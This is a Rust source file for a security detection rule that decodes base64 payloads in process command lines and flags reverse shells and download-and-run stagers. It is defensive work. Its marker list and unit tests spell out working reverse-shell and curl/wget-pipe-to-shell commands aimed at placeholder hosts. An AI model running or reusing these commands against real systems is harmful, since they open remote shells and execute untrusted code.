//! Base64 payloads on a command line that decode to a reverse shell or a
//! download-and-run stager.
//!
//! `echo YmFzaCAtaSA+JiAvZGV2L3RjcC8... | base64 -d | bash` and
//! `python3 -c "exec(b64decode('...'))"` hide the real command from string
//! signatures. The module finds base64 runs in `process.command_line` and
//! `process.args`, decodes them (and a second layer when the decoded text
//! carries base64 again), and looks in the decoded text for what reverse
//! shells and stagers are made of.
//!
//! Also exports `wasm.b64.decode(string)` for EQL rules.

#![no_std]

extern crate alloc;

use alloc::string::String;
use alloc::vec::Vec;

use kestrel_sdk::{export_function, export_rule, text, Args, Config, ConfigError, Event, Matches, Rule};

/// Work bound per event, so that a hostile multi-megabyte command line
/// cannot exhaust the module's fuel (a fault: three of them quarantine the
/// rule, which would let an attacker switch it off). Shared by the command
/// line and the arguments.
const SCAN_BUDGET: usize = 16 * 1024;
/// Longest decoded excerpt put in the alert.
const QUOTE_CHARS: usize = 200;
/// Decoded text may hold this share of non-printable bytes (1 in 10):
/// enough for a misaligned first quantum or a few odd bytes, far below
/// the 60% of decoded random data.
const NOISE_DIVISOR: usize = 10;

// ---------------------------------------------------------------------------
// Finding and decoding base64 runs

#[derive(Clone, Copy, PartialEq, Eq)]
enum Alphabet {
    Standard, // A-Z a-z 0-9 + /
    UrlSafe,  // A-Z a-z 0-9 - _
}

impl Alphabet {
    fn bit(self) -> u8 {
        match self {
            Alphabet::Standard => IN_STD,
            Alphabet::UrlSafe => IN_URL,
        }
    }
}

// Per-byte lookup tables: scanning and decoding run a table load per byte
// instead of chains of range tests (fuel is counted per instruction).
const IN_STD: u8 = 0x40;
const IN_URL: u8 = 0x80;
const SEXTET: u8 = 0x3f;

/// Base64 class of each byte: its 6-bit value and the alphabets it is in
/// (0 for bytes in neither).
static B64: [u8; 256] = {
    let mut t = [0u8; 256];
    let mut i = 0;
    while i < 26 {
        t[b'A' as usize + i] = i as u8 | IN_STD | IN_URL;
        t[b'a' as usize + i] = (26 + i) as u8 | IN_STD | IN_URL;
        if i < 10 {
            t[b'0' as usize + i] = (52 + i) as u8 | IN_STD | IN_URL;
        }
        i += 1;
    }
    t[b'+' as usize] = 62 | IN_STD;
    t[b'/' as usize] = 63 | IN_STD;
    t[b'-' as usize] = 62 | IN_URL;
    t[b'_' as usize] = 63 | IN_URL;
    t
};

/// 1 for bytes that are not text: everything but ASCII graphic
/// characters, space, tab, CR and LF.
static NOISE: [u8; 256] = {
    let mut t = [1u8; 256];
    let mut b = 0x20;
    while b < 0x7f {
        t[b] = 0;
        b += 1;
    }
    t[b'\t' as usize] = 0;
    t[b'\n' as usize] = 0;
    t[b'\r' as usize] = 0;
    t
};

/// Calls `f` for every base64 run of at least `min` characters in `s`, in
/// order. A maximal run of base64-ish characters that mixes both alphabets
/// (`/usr/lib/x86_64-linux-gnu`) is split into the pieces valid in each
/// one. Padding (`=`) ends a run and is not needed to decode it. `f`
/// returns false to stop the scan.
fn for_each_run(s: &[u8], min: usize, mut f: impl FnMut(&[u8], Alphabet) -> bool) -> bool {
    let mut i = 0;
    while i < s.len() {
        if B64[s[i] as usize] == 0 {
            i += 1;
            continue;
        }
        let start = i;
        // AND of the classes: a missing alphabet bit means some character
        // is only valid in the other alphabet.
        let mut all = IN_STD | IN_URL;
        while i < s.len() {
            let c = B64[s[i] as usize];
            if c == 0 {
                break;
            }
            all &= c;
            i += 1;
        }
        let run = &s[start..i];
        if run.len() < min {
            continue;
        }
        let keep_going = match (all & IN_STD != 0, all & IN_URL != 0) {
            (true, _) => f(run, Alphabet::Standard),
            (false, true) => f(run, Alphabet::UrlSafe),
            (false, false) => {
                split_runs(run, min, Alphabet::Standard, &mut f) && split_runs(run, min, Alphabet::UrlSafe, &mut f)
            }
        };
        if !keep_going {
            return false;
        }
    }
    true
}

/// The pieces of a mixed run that are valid in `alphabet`.
fn split_runs(run: &[u8], min: usize, alphabet: Alphabet, f: &mut impl FnMut(&[u8], Alphabet) -> bool) -> bool {
    let bit = alphabet.bit();
    for piece in run.split(|&b| B64[b as usize] & bit == 0) {
        if piece.len() >= min && !f(piece, alphabet) {
            return false;
        }
    }
    true
}

/// Decodes `run` into the start of `buf` if it decodes to text and returns
/// the decoded length, giving up as soon as the output holds more
/// non-printable bytes than text would (random data fails within a few
/// bytes, which keeps scanning cheap). A trailing single character (length
/// 1 mod 4) cannot be decoded and is dropped. `buf` only ever grows, so it
/// is neither reallocated nor cleared between attempts.
fn decode_text(run: &[u8], alphabet: Alphabet, buf: &mut Vec<u8>) -> Option<usize> {
    let bit = alphabet.bit();
    let full = run.len() / 4;
    let tail = match run.len() % 4 {
        1 => 0,
        r => r,
    };
    let len = full * 3 + tail.saturating_sub(1);
    let budget = (len / NOISE_DIVISOR).max(1);
    // Write through a slice, not Vec::push: a byte store could alias the
    // Vec's own length, which would then be reloaded for every byte.
    if buf.len() < len {
        buf.resize(len, 0);
    }
    let out = &mut buf[..len];
    let mut noise = 0usize;
    let mut done = 0;
    for (q, d) in run.chunks_exact(4).zip(out.chunks_exact_mut(3)) {
        let (a, b, c, e) = (B64[q[0] as usize], B64[q[1] as usize], B64[q[2] as usize], B64[q[3] as usize]);
        if a & b & c & e & bit == 0 {
            return None;
        }
        let n = (a & SEXTET) as u32 * 0x40000
            | (b & SEXTET) as u32 * 0x1000
            | (c & SEXTET) as u32 * 0x40
            | (e & SEXTET) as u32;
        let (x, y, z) = ((n >> 16) as u8, (n >> 8) as u8, n as u8);
        d[0] = x;
        d[1] = y;
        d[2] = z;
        noise += NOISE[x as usize] as usize + NOISE[y as usize] as usize + NOISE[z as usize] as usize;
        if noise > budget {
            return None;
        }
        done += 3;
    }
    if tail > 0 {
        let mut n = 0u32;
        for &ch in &run[full * 4..full * 4 + tail] {
            let v = B64[ch as usize];
            if v & bit == 0 {
                return None;
            }
            n = n << 6 | (v & SEXTET) as u32;
        }
        // 2 characters carry 1 byte (12 bits), 3 carry 2 (18 bits).
        n <<= 6 * (4 - tail) as u32;
        for k in 0..tail - 1 {
            let byte = (n >> (16 - 8 * k)) as u8;
            out[done + k] = byte;
            noise += NOISE[byte as usize] as usize;
        }
    }
    if len > 0 && noise <= budget {
        Some(len)
    } else {
        None
    }
}

/// Tries the four alignments of `run`: a run glued to a prefix
/// (`/tmp/YmFzaC...`) only decodes when the prefix is skipped modulo 4.
/// Returns the text, decoded into `buf`, for the first that decodes to
/// text.
fn decode_run<'b>(run: &[u8], alphabet: Alphabet, min: usize, buf: &'b mut Vec<u8>) -> Option<&'b [u8]> {
    for skip in 0..4 {
        if run.len() < skip + min {
            break;
        }
        if let Some(len) = decode_text(&run[skip..], alphabet, buf) {
            return Some(&buf[..len]);
        }
    }
    None
}

// ---------------------------------------------------------------------------
// What the decoded text is made of

/// Markers, most severe first: the first one found wins the report.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug)]
enum Marker {
    DevTcp,
    DevUdp,
    BashI,
    NcE,
    NcatE,
    SocketSocket,
    PtySpawn,
    ShI,
    Mkfifo,
    CurlSh,
    WgetSh,
    ChmodX,
}

impl Marker {
    fn name(self) -> &'static str {
        match self {
            Marker::DevTcp => "/dev/tcp/",
            Marker::DevUdp => "/dev/udp/",
            Marker::BashI => "bash -i",
            Marker::NcE => "nc -e",
            Marker::NcatE => "ncat -e",
            Marker::SocketSocket => "socket.socket",
            Marker::PtySpawn => "pty.spawn",
            Marker::ShI => "sh -i",
            Marker::Mkfifo => "mkfifo",
            Marker::CurlSh => "curl | sh",
            Marker::WgetSh => "wget | sh",
            Marker::ChmodX => "chmod +x",
        }
    }

    /// What the marker says about the payload, for the alert's reason.
    fn what(self) -> &'static str {
        match self {
            m if m.is_reverse_shell() => "a reverse shell",
            Marker::ShI => "an interactive shell",
            Marker::Mkfifo => "a fifo relay",
            Marker::CurlSh | Marker::WgetSh => "a download piped into a shell",
            _ => "a file made executable",
        }
    }

    /// A reverse shell is worth killing on sight; a stager step alone
    /// (`chmod +x`, a fifo, a download piped to a shell) is alerted on.
    fn is_reverse_shell(self) -> bool {
        self <= Marker::PtySpawn
    }
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

fn keep_best(best: &mut Option<Marker>, m: Marker) {
    if best.map_or(true, |b| m < b) {
        *best = Some(m);
    }
}

/// Arguments kept per command segment; markers sit near the start.
const MAX_ARGS: usize = 24;

fn basename(arg: &[u8]) -> &[u8] {
    arg.rsplit(|&b| b == b'/').next().unwrap_or(arg)
}

fn is_shell(arg: &[u8]) -> bool {
    matches!(basename(arg), b"sh" | b"bash" | b"dash" | b"zsh" | b"ksh")
}

/// `-i`, `-il`, `-ic`...: an option cluster holding the interactive flag.
fn is_interactive_flag(arg: &[u8]) -> bool {
    arg.len() >= 2 && arg[0] == b'-' && arg[1..].iter().all(|b| b.is_ascii_alphabetic()) && arg[1..].contains(&b'i')
}

/// The most severe marker in `text`.
fn find_marker(text: &[u8]) -> Option<Marker> {
    let mut best = None;
    // The fixed strings are found from their anchors, `/` and `.`, so the
    // text is walked once with a cheap test per byte.
    for (i, &b) in text.iter().enumerate() {
        if b == b'/' {
            let rest = &text[i..];
            if rest.starts_with(b"/dev/tcp/") {
                keep_best(&mut best, Marker::DevTcp);
                return best;
            }
            if rest.starts_with(b"/dev/udp/") {
                keep_best(&mut best, Marker::DevUdp);
            }
        } else if b == b'.' {
            let (before, after) = (&text[..i], &text[i + 1..]);
            if before.ends_with(b"socket") && after.starts_with(b"socket") {
                keep_best(&mut best, Marker::SocketSocket);
            } else if before.ends_with(b"pty") && after.starts_with(b"spawn") {
                keep_best(&mut best, Marker::PtySpawn);
            }
        }
    }
    command_markers(text, &mut best);
    best
}

// Byte classes for splitting shell text into commands and words.
const WORD: u8 = 0;
const SPACE: u8 = 1; // whitespace and quotes: end a word
const SEP: u8 = 2; // ; | & ( ) newline backquote: end a command

static SHELL_CLASS: [u8; 256] = {
    let mut t = [WORD; 256];
    t[b' ' as usize] = SPACE;
    t[b'\t' as usize] = SPACE;
    t[b'\r' as usize] = SPACE;
    t[0x0b] = SPACE;
    t[0x0c] = SPACE;
    t[b'"' as usize] = SPACE;
    t[b'\'' as usize] = SPACE;
    t[b';' as usize] = SEP;
    t[b'|' as usize] = SEP;
    t[b'&' as usize] = SEP;
    t[b'(' as usize] = SEP;
    t[b')' as usize] = SEP;
    t[b'\n' as usize] = SEP;
    t[b'`' as usize] = SEP;
    t
};

/// The class of `text[i]`; the `&` of a redirection (`>&`, `2>&1`, `&>`)
/// belongs to its word and does not end the command.
#[inline(always)]
fn class_at(text: &[u8], i: usize) -> u8 {
    let b = text[i];
    let class = SHELL_CLASS[b as usize];
    if class == SEP && b == b'&' && ((i > 0 && text[i - 1] == b'>') || text.get(i + 1) == Some(&b'>')) {
        WORD
    } else {
        class
    }
}

/// Shell-command markers: splits the text into command segments at
/// `; | & ( ) \n` and backquotes, and each segment into words (quotes
/// dropped), then looks at each command's words.
fn command_markers(text: &[u8], best: &mut Option<Marker>) {
    let mut args: [&[u8]; MAX_ARGS] = [&[]; MAX_ARGS];
    // A `curl`/`wget` segment that ended in a pipe: if the next command is
    // a shell, the download runs.
    let mut fetch_piped: Option<Marker> = None;
    let mut i = 0;
    while i < text.len() {
        let mut n = 0;
        let mut sep = 0u8;
        while i < text.len() {
            match class_at(text, i) {
                SEP => {
                    sep = text[i];
                    i += 1;
                    break;
                }
                SPACE => i += 1,
                _ => {
                    let start = i;
                    while i < text.len() && class_at(text, i) == WORD {
                        i += 1;
                    }
                    if n < MAX_ARGS {
                        args[n] = &text[start..i];
                        n += 1;
                    }
                }
            }
        }
        let words = &args[..n];
        if n > 0 {
            // A pipe `|` (not `||`) into a shell completes a fetch.
            let cmd = words.iter().position(|w| !matches!(*w, b"sudo" | b"exec" | b"nohup" | b"setsid"));
            if let (Some(m), Some(c)) = (fetch_piped, cmd) {
                if is_shell(words[c]) {
                    keep_best(best, m);
                }
            }
            segment_markers(words, best);
            fetch_piped = match (cmd.map(|c| basename(words[c])), sep == b'|' && text.get(i) != Some(&b'|')) {
                (Some(b"curl"), true) => Some(Marker::CurlSh),
                (Some(b"wget"), true) => Some(Marker::WgetSh),
                _ => None,
            };
        } else if sep != b'|' {
            fetch_piped = None;
        }
    }
}

/// Markers within one command segment. The word match compiles to a
/// switch on the length, so ordinary words cost one comparison.
fn segment_markers(words: &[&[u8]], best: &mut Option<Marker>) {
    for (k, &w) in words.iter().enumerate() {
        let rest = &words[k + 1..];
        match basename(w) {
            name @ (b"sh" | b"bash" | b"dash" | b"zsh" | b"ksh") => {
                // Only the shell's own options: `sh -c "grep -i x"` is not -i.
                if rest.iter().take_while(|a| a.first() == Some(&b'-')).any(|a| is_interactive_flag(a)) {
                    keep_best(best, if name == b"bash" { Marker::BashI } else { Marker::ShI });
                }
            }
            b"nc" | b"netcat" | b"nc.traditional" | b"nc.openbsd" => {
                if rest.iter().any(|a| matches!(*a, b"-e" | b"-c")) {
                    keep_best(best, Marker::NcE);
                }
            }
            b"ncat" => {
                if rest.iter().any(|a| matches!(*a, b"-e" | b"-c" | b"--exec" | b"--sh-exec")) {
                    keep_best(best, Marker::NcatE);
                }
            }
            b"mkfifo" => keep_best(best, Marker::Mkfifo),
            b"chmod" => {
                if rest.iter().any(|a| contains(a, b"+x")) {
                    keep_best(best, Marker::ChmodX);
                }
            }
            _ => {}
        }
    }
}

// ---------------------------------------------------------------------------
// The rule

struct Found {
    marker: Marker,
    layers: u8,
    decoded: String,
}

/// Decoding buffers, reused for every run of every event.
struct Scanner {
    min_run: usize,
    layer1: Vec<u8>,
    layer2: Vec<u8>,
}

impl Scanner {
    /// The most severe marker hidden in base64 in `s` (one or two layers
    /// deep), with the decoded text it was found in.
    fn scan(&mut self, s: &[u8]) -> Option<Found> {
        let Scanner { min_run, layer1, layer2 } = self;
        let min = *min_run;
        let mut best: Option<Found> = None;
        let consider = |best: &mut Option<Found>, text: &[u8], layers: u8| {
            if let Some(m) = find_marker(text) {
                if best.as_ref().map_or(true, |b| m < b.marker) {
                    let lossy = String::from_utf8_lossy(text);
                    *best =
                        Some(Found { marker: m, layers, decoded: String::from(text::truncate(&lossy, QUOTE_CHARS)) });
                }
            }
        };
        for_each_run(s, min, |run, alphabet| {
            if let Some(text1) = decode_run(run, alphabet, min, layer1) {
                consider(&mut best, text1, 1);
                for_each_run(text1, min, |run2, alphabet2| {
                    if let Some(text2) = decode_run(run2, alphabet2, min, layer2) {
                        consider(&mut best, text2, 2);
                    }
                    true
                });
            }
            // The most severe marker cannot be beaten: stop early.
            best.as_ref().map_or(true, |b| b.marker != Marker::DevTcp)
        });
        best
    }
}

struct Base64ReverseShell {
    scanner: Scanner,
}

/// The first `max` bytes of `s` (a byte cut is fine: runs are ASCII).
fn head(s: &[u8], max: usize) -> &[u8] {
    &s[..s.len().min(max)]
}

/// Whether the command line is exactly the arguments joined by spaces, as
/// most sources build it; then the arguments hold nothing new. Costs at
/// most the length of the command line.
fn cmdline_is_args(cmdline: &[u8], ev: &Event) -> bool {
    let mut rest = cmdline;
    for (k, arg) in ev.byte_strs("process.args").enumerate() {
        if k > 0 {
            match rest.strip_prefix(b" ") {
                Some(r) => rest = r,
                None => return false,
            }
        }
        match rest.strip_prefix(arg) {
            Some(r) => rest = r,
            None => return false,
        }
    }
    rest.is_empty()
}

impl Rule for Base64ReverseShell {
    fn init(config: &Config) -> Result<Self, ConfigError> {
        let min_run = config.int_or("min_run", 16)?;
        if !(8..=4096).contains(&min_run) {
            return Err("config `min_run` must be between 8 and 4096 characters".into());
        }
        Ok(Base64ReverseShell {
            scanner: Scanner { min_run: min_run as usize, layer1: Vec::new(), layer2: Vec::new() },
        })
    }

    fn check(&mut self, ev: &Event, out: &mut Matches) {
        // Raw bytes (base64 is ASCII): no UTF-8 pass over huge fields, and
        // every byte looked at comes out of one budget.
        let mut budget = SCAN_BUDGET;
        let mut found = None;
        let mut source = "the command line";
        let cmdline = ev.bytes("process.command_line");
        if let Some(c) = cmdline {
            let s = head(c, budget);
            budget -= s.len();
            found = self.scanner.scan(s);
        }
        let args_needed = found.is_none()
            && budget > 0
            && match cmdline {
                Some(c) => !cmdline_is_args(c, ev),
                None => true,
            };
        if args_needed {
            for arg in ev.byte_strs("process.args") {
                if budget == 0 || found.is_some() {
                    break;
                }
                let s = head(arg, budget);
                // Empty arguments cost a byte too, so the loop is bounded.
                budget = budget.saturating_sub(s.len().max(1));
                found = self.scanner.scan(s);
                source = "an argument";
            }
        }
        let found = match found {
            Some(f) => f,
            None => return,
        };
        let mut msg = String::with_capacity(128);
        msg.push_str("base64 payload in ");
        msg.push_str(source);
        msg.push_str(if found.layers > 1 { " decodes (two layers deep) to " } else { " decodes to " });
        msg.push_str(found.marker.what());
        msg.push_str(" (");
        msg.push_str(found.marker.name());
        msg.push(')');
        let mut m = out.matched_with(ev.index());
        m.msg(&msg)
            .data_str("marker", found.marker.name())
            .data_str("decoded", &found.decoded)
            .data_int("layers", found.layers as i64);
        if found.marker.is_reverse_shell() {
            m.action("kill");
        }
    }
}

export_rule!(Base64ReverseShell);

/// Longest input `decode` looks at.
const FN_MAX_BYTES: usize = 32 * 1024;

/// `wasm.b64.decode(s)`: the decoded text of the first base64 run of 16+
/// characters in `s` that decodes to text; null if there is none.
fn decode(args: &Args) -> Option<String> {
    let s = head(args.bytes(0)?, FN_MAX_BYTES);
    let mut buf = Vec::new();
    let mut result = None;
    for_each_run(s, 16, |run, alphabet| match decode_run(run, alphabet, 16, &mut buf) {
        Some(text) => {
            result = Some(String::from_utf8_lossy(text).into_owned());
            false
        }
        None => true,
    });
    result
}

export_function!(decode, decode);

#[cfg(test)]
mod tests {
    use super::*;

    fn marker(s: &str) -> Option<Marker> {
        find_marker(s.as_bytes())
    }

    #[test]
    fn markers() {
        assert_eq!(marker("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), Some(Marker::DevTcp));
        assert_eq!(marker("/bin/bash -i"), Some(Marker::BashI));
        assert_eq!(marker("sh -c 'grep -i foo bar'"), None);
        assert_eq!(marker("rsync -e ssh a b"), None);
        assert_eq!(marker("nc 10.0.0.1 4444 -e /bin/sh"), Some(Marker::NcE));
        assert_eq!(marker("ncat --sh-exec 'x' 10.0.0.1 1"), Some(Marker::NcatE));
        assert_eq!(marker("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f"), Some(Marker::ShI));
        assert_eq!(marker("curl -s http://x/y.sh | sudo bash"), Some(Marker::CurlSh));
        assert_eq!(marker("curl -s http://x/y.sh || bash"), None);
        assert_eq!(marker("curl -s http://x/y.sh 2>&1 | sh"), Some(Marker::CurlSh));
        assert_eq!(marker("curl -s http://x/y.sh & sh"), None);
        assert_eq!(marker("/bin/sh -i >& /dev/udp/10.0.0.1/53 0>&1"), Some(Marker::DevUdp));
        assert_eq!(marker("exec zsh -il"), Some(Marker::ShI));
        assert_eq!(marker("import pty; pty.spawn('/bin/sh')"), Some(Marker::PtySpawn));
        assert_eq!(marker("wget -qO- http://x/y|sh"), Some(Marker::WgetSh));
        assert_eq!(marker("curl -o /tmp/x http://x/y; chmod +x /tmp/x"), Some(Marker::ChmodX));
        assert_eq!(marker("hello world"), None);
    }

    #[test]
    fn decoding() {
        let mut buf = Vec::new();
        let mut dec = |s: &[u8], a| decode_text(s, a, &mut buf).map(|n| buf[..n].to_vec());
        assert_eq!(dec(b"aGVsbG8gd29ybGQK", Alphabet::Standard).unwrap(), b"hello world\n");
        assert_eq!(dec(b"aGVsbG8gd29ybGQ", Alphabet::Standard).unwrap(), b"hello world");
        assert_eq!(dec(b"aGVsbG8gd29ybA", Alphabet::Standard).unwrap(), b"hello worl");
        assert_eq!(dec(b"aGVsbG8gd29ybGQKa", Alphabet::Standard).unwrap(), b"hello world\n", "1 char left over");
        assert_eq!(dec(b"PD94bWwgdmVyc2lvbj0_Pg", Alphabet::UrlSafe).unwrap(), b"<?xml version=?>");
        assert_eq!(dec(b"PD94bWwgdmVyc2lvbj0_Pg", Alphabet::Standard), None, "wrong alphabet");
        assert_eq!(dec(b"3f9c2a7d1b8e4f60a5c2d9e7b1f3a8c4", Alphabet::Standard), None, "hex is not text");
        let mut buf = Vec::new();
        assert_eq!(decode_run(b"mp/aGVsbG8gd29ybGQK", Alphabet::Standard, 16, &mut buf).unwrap(), b"hello world\n");
    }
}
